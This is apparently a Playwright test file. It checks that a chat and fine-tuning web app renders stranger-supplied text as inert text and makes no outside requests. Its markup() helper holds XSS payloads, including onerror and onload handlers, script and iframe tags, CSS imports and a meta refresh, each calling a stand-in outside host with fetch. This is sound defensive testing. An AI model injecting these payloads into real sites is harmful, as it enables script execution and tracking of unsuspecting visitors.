"""In Chromium: what strangers write stays text in every place that shows it, and fetches nothing from anywhere."""

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect
from served import Served, serve
from signed_in import Site

pytest_plugins = ["browser"]

PATIENCE = 90_000
PLANTED = "planted"

expect.set_options(timeout=PATIENCE)


def markup(site: str) -> list[str]:
    """Pieces of HTML, CSS and templates with which to load something, run something or lead somewhere."""
    return [
        f"<img class={PLANTED} src={site}/i onerror=fetch('{site}/e')>",
        f"<svg class={PLANTED} onload=fetch('{site}/v')>",
        f"<script class={PLANTED} src={site}/s></script>",
        f"<iframe class={PLANTED} src={site}/f></iframe>",
        f'<p class={PLANTED} style="background:url({site}/c)">x</p>',
        f"<style class={PLANTED}>@import '{site}/y';</style>",
        f"<form class={PLANTED} action={site}/a><input autofocus onfocus=fetch('{site}/o')></form>",
        f"<meta class={PLANTED} http-equiv=refresh content='0;url={site}/m'>",
        f"<link class={PLANTED} rel=stylesheet href={site}/l>",
        f"<object class={PLANTED} data={site}/b></object>",
        f"${{fetch('{site}/t')}} {{{{fetch}}}} $$x$$ &lt;b&gt;",
    ]


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The served app's address."""
    with serve(tmp_path_factory.mktemp("markup") / "runs") as address:
        yield address


@pytest.fixture
def site() -> Iterator[Site]:
    """Somebody's site, which waits for visitors."""
    with Site("caught") as site:
        yield site


@pytest.fixture(params=["light", "dark"])
def page(request: pytest.FixtureRequest, chromium: Browser, url: Served) -> Iterator[Page]:
    """A visitor's page; in the end nothing was asked of another site, and no policy stood in the page's own way."""
    context, faults = chromium.new_context(viewport={"width": 1280, "height": 900}), []
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    page.on("console", lambda m: faults.append(m.text) if "Content Security Policy" in m.text else None)
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("request", lambda r: None if r.url.startswith((url, "data:", "blob:")) else faults.append(r.url))
    page.goto(f"{url}?__theme={request.param}")
    yield page
    assert page.locator(f".{PLANTED}").count() == 0
    context.close()
    assert faults == []


@pytest.mark.parametrize("page", ["light"], indirect=True)
def test_questions_and_answers_are_the_text_that_they_are(page, site):
    page.get_by_role("tab", name="Playground").click()
    expect(page.locator("#chat-run")).to_contain_text("corporate · example")
    pieces = markup(site.url)
    for text in (pieces[0] + pieces[3], pieces[-1]):
        page.get_by_role("button", name="New conversation").click()
        expect(page.locator("#chat-0 .message")).to_have_count(0)
        page.locator("#prompt textarea").fill(text)
        page.locator("#send").click()
        for column in range(3):
            expect(page.locator(f"#chat-{column} .bot.message")).to_be_visible()
            assert page.locator(f"#chat-{column} .user.message").text_content() == text
        expect(page.locator("#send")).to_be_visible()
    assert site.seen == []


@pytest.mark.long
def test_a_whole_run_of_markup_in_every_tab(page, site, tmp_path):
    rows = tmp_path / "rows.jsonl"
    pieces = markup(site.url) * 3
    rows.write_text("".join(json.dumps({"prompt": f"{n} {p}", "completion": p}) + "\n" for n, p in enumerate(pieces)))
    page.get_by_label("Upload a file").check()
    page.locator("#file input[type=file]").set_input_files(rows)
    page.get_by_role("button", name="More settings").click()
    page.locator("label", has_text="Name").locator("input, textarea").first.fill(
        f"<img class={PLANTED} src={site.url}/n>"
    )
    for label, value in {"Batch size": "4", "held-out rows that": "4", "Max new tokens": "8"}.items():
        page.locator("label", has_text=label).locator("input, textarea").fill(value)
    page.locator("#amount input").fill("3")
    expect(page.locator("#card")).to_contain_text("Budget: 3 steps")
    page.get_by_role("button", name="What the model will see").click()
    expect(page.locator(".t-tokens").first).to_contain_text("<")
    page.get_by_role("button", name="Recipe (YAML)").click()
    expect(page.locator("#yaml .cm-content")).to_contain_text("name: <img")
    page.get_by_role("button", name="Compare all methods").click()
    expect(page.locator("#methods .t-method").first).to_be_visible()
    page.locator("#train").click()
    expect(page.locator("#card .t-verdict")).to_be_visible()
    expect(page.locator("#card .t-example").first).to_contain_text("<")
    page.locator("#chat").click()
    expect(page.locator("#examples")).to_contain_text("<")
    page.locator("#examples").get_by_role("button").first.click()
    expect(page.get_by_label("Prompt", exact=True)).not_to_have_value("")
    page.locator("#send").click()
    expect(page.locator("#chat-1 .bot.message")).not_to_be_empty()
    page.get_by_role("tab", name="My runs").click()
    expect(page.locator("#runs")).to_contain_text("<")
    page.locator('#runs .t-row:not([data-run="example"])').click()
    page.get_by_role("button", name="Use via API").click()
    expect(page.locator("body")).to_contain_text("/train")
    assert site.seen == []
